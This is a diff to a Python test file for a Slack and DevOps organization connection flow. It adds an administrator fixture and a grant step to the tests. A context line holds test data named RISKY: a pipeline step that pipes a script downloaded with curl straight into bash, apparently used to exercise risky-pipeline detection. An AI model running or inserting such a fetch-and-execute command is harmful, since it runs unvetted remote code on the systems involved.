@@ -19,8 +19,9 @@ from core.services import open_services
 from core.slack.models import SlackSubscription, SlackWorkspace
 from sandbox.scenario import Fault, Membership, Organization, Project, Repository
 from sandbox.slack import calls, response_url
+from tests.signin import grant
 from tests.workers.conftest import wait_for
-from tests.worlds import CLIENT_ID, CONTOSO_TENANT
+from tests.worlds import ADMIN, CLIENT_ID, CONTOSO_TENANT
 
 RISKY = "steps:\n  - script: curl -sSL https://example.com/install.sh | bash\n"
 
@@ -38,7 +39,13 @@ def plant_organization(world, repositories: int) -> None:
     ]
     member = Membership(client_id=CLIENT_ID, projects={p.name: "projectContributor" for p in projects})
     world.organizations.append(
-        Organization(name="workers", tenant_id=CONTOSO_TENANT, projects=projects, members=[member])
+        Organization(
+            name="workers",
+            tenant_id=CONTOSO_TENANT,
+            administrators=[ADMIN],
+            projects=projects,
+            members=[member],
+        )
     )
     world.model_validate(world)  # fills ids
 
@@ -52,6 +59,7 @@ async def connect(settings) -> tuple[str, str, str]:
             session.add(SlackWorkspace(team_id="T0DEMO", account_id=account.id, linked_by="U1"))
         principal = Principal(account.id, "alice@acme.test", "")
         started = await flows.start(services, principal, "workers")
+        await grant(services, started)
         result = await flows.connect(services, principal, started.connection.id)
         assert result.diagnosis.ok
         async with session_scope(services.sessions) as session:
